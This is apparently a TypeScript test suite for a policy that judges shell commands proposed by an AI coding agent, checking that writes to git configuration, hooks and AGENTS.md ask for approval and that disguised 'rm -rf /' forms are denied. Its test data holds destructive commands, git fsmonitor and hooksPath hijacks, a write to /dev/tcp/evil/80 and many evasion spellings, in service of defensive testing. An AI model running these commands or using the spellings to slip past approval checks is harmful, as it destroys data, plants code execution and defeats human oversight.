import { describe, expect, it } from 'vitest'
import { filesWritten, judgeCommand } from '../../main/approval/judge-command.ts'
import { createPolicy } from '../../main/approval/policy.ts'

const PLACE = { cwd: '/ws', root: '/ws', home: '/home/ada' }
const policy = createPolicy({ root: '/ws', home: '/home/ada' })
const verdict = (command: string): string =>
  policy.judge([{ kind: 'command', command, cwd: '/ws', outside: false, env: {}, timeoutMs: 1000, destructive: false }], 'full').kind

describe('rule 6: a control file is named, however it is spelled', () => {
  it.each([
    ['echo x >& .git/config', '.git/config'],
    ['echo x &> .git/config', '.git/config'],
    ['echo x >| .git/config', '.git/config'],
    ['echo x 2> .git/config', '.git/config'],
    ['echo x 2>&.git/config', '.git/config'],
    ['git -C . config core.fsmonitor ./evil', "git's configuration"],
    ['git config core.hooksPath get', "git's configuration"],
    ['git config --global core.pager ./x', "git's configuration"],
    ['git -c core.fsmonitor=./evil status', "git's configuration for this command"],
    ['dd of=.git/hooks/pre-commit', '.git/hooks/pre-commit'],
    ['dd of=AGENTS.md if=x', 'AGENTS.md'],
    ['cp -t.git/hooks x', '.git/hooks'],
    ['curl -o.git/x http://x', '.git/x'],
    ['env -C .git tee config', 'config'],
    ['cp docs/AGENTS.md .', 'AGENTS.md'],
    ['wget -P.git http://x', '.git'],
    ['unzip x -d .git', '.git'],
    ['mv x .git/hooks/', '.git/hooks/'],
    ['wget http://x/package.json', 'package.json'],
  ])('%s writes %s', (line, control) => {
    expect(judgeCommand(line, PLACE).control).toBe(control)
  })
})

describe('mode full asks for what lies outside, is a control file, or cannot be told (C3, C7, C9, C12)', () => {
  it.each([
    'echo x >&/etc/passwd',
    'echo x &>> /etc/passwd',
    'echo x <> /etc/passwd',
    '> /tmp/../etc/passwd',
    '> /dev/../etc/cron.d/x',
    'cat img > /dev/sda',
    'cp img /dev/sda',
    'echo x > /dev/tcp/evil/80',
    'git config core.hooksPath --get',
    'git --git-dir=.git config a.b c',
    'git -C .git config a.b c',
    'cp --target-directory=/etc x',
    'cp --target=/etc x',
    'cp -at .git/hooks x',
    'curl -so.git/x http://x',
    'curl --output=/etc/x http://x',
    'curl -O http://x/AGENTS.md',
    'curl -OJ http://x/y',
    'wget -P /etc http://x',
    'wget -O/etc/x http://x',
    'env --chdir .git tee config',
    'env --chdir=.git tee config',
    'env -C.git tee config',
    'echo x > .gi*/config',
    'tee {.git/config,y}',
    'f=/etc/x; echo x > $f',
    'cp a/AGENTS.md b/x docs',
    'tar xf x -C /etc',
    'tar -xf x -C.git',
    'tar -xzf x --directory=/etc',
    'tar czf /etc/x.tgz .',
    'unzip x -d/etc',
    'ln -s x .git/hooks/pre-commit',
    'ln -s a/AGENTS.md',
    'install -m 755 x .git/hooks/pre-commit',
    'install -t .git/hooks x',
    'rsync -a x/ .git/',
    'rsync -a a/AGENTS.md .',
    'find . -name AGENTS.md -delete',
    'find / -name x -delete',
    '$(echo rm) -rf /',
    '$x -rf /',
    '{rm,-rf,/}',
    'cat list | xargs rm -rf',
    '(echo /; ls) | xargs rm',
    'cp $(which x) .git/hooks/pre-commit',
    'tee "$(pwd)/../x"',
    'tee ~-/x',
    'sed -i s/a/b/ .g*/config',
    "sed -n 'w .git/config' x",
    'touch AGENT?.md',
    'echo x > "a b"/../../x',
    'git clone http://x /etc/y',
    'git mv a AGENTS.md',
    'git diff --output=.git/config',
    'git -C /other commit -m x',
    'sort -o.git/config x',
    'timeout --signal KILL 5 tee .git/config',
    'sudo -u root tee .git/config',
    'xargs -a list cp -t .git',
    'find . -fprint .git/config',
    'find src -exec cp x .git/config \\;',
    'echo x > ${HOME%x}/y',
    '[[ a ]] > .git/config',
    '"["[ x > .git/config',
    'if true; then echo x; fi > .git/config',
    'rm -rf $(pwd)',
  ])('%s', (line) => {
    expect(verdict(line)).toBe('ask')
  })
})

describe('C20: what nobody removes by a signature, however it is spelled', () => {
  it.each([
    ["bash -c -e 'rm -rf /'", 'the whole file system'],
    ["bash -ce 'rm -rf /'", 'the whole file system'],
    ['bash <<< "rm -rf /"', 'the whole file system'],
    ["bash <<< 'rm -rf /'", 'the whole file system'],
    ['echo "`rm -rf /`"', 'the whole file system'],
    ["echo 'rm -rf /' | bash", 'the whole file system'],
    ['echo / | grep / | xargs rm -rf', 'the whole file system'],
    ['echo / | xargs -P $(echo 2) rm -rf', 'the whole file system'],
    ['echo / | xargs rm -rf', 'the whole file system'],
    ['find -delete', 'the whole folder of this session'],
    ['find . -delete', 'the whole folder of this session'],
    ["find . -name '*' -exec rm -rf {} +", 'the whole folder of this session'],
    ['find . -name .git -exec rm -rf {} +', "git's data, and with it the history"],
    ['find . -type f -delete', 'the whole folder of this session'],
    ['find .git -delete', "git's data, and with it the history"],
    ["git -c alias.x='!rm -rf /' x", 'the whole file system'],
    ["git rebase -x 'rm -rf /' main", 'the whole file system'],
    ["git submodule foreach 'rm -rf /'", 'the whole file system'],
    ['rm -rf .git/*', "git's data, and with it the history"],
    ['rm -rf {/,x}', 'the whole file system'],
  ])('%s would remove %s', (line, ruins) => {
    expect(judgeCommand(line, PLACE).ruins).toBe(ruins)
    expect(verdict(line)).toBe('deny')
  })

  it('from a folder on the way, too', () => {
    expect(judgeCommand('cd .. && rm -rf *', { ...PLACE, cwd: '/ws/sub' }).ruins).toBe('the whole folder of this session')
  })
})

describe('places for things of no lasting worth', () => {
  it('what lies beside the folder is none of them', () => {
    const place = { ...PLACE, root: '/tmp/case/ws', cwd: '/tmp/case/ws' }
    const beyond = (line: string): boolean => judgeCommand(line, place).beyond
    expect(['> /tmp/case/out/x', '> ../out/x', '> /tmp/log', '> /dev/shm/x'].map((line) => beyond(`echo x ${line}`))).toEqual([
      true,
      true,
      false,
      false,
    ])
  })
})

describe('the files that are looked up on disk', () => {
  it('are those that the line names, with the way up that it takes, in every folder where it may run', () => {
    const file = { isPattern: false, into: [], isPassing: false, isLinkItself: false }
    expect(filesWritten('cd sub; cp a/b ../far/../x', PLACE)).toEqual([
      { ...file, path: '/ws/../far/../x', into: ['b'] },
      { ...file, path: '/ws/sub/../far/../x', into: ['b'] },
    ])
    expect(filesWritten('rm far; touch near*/x > /dev/null', PLACE)).toEqual([
      { ...file, path: '/ws/far', isLinkItself: true },
      { ...file, path: '/ws/near*/x', isPattern: true },
    ])
  })
})
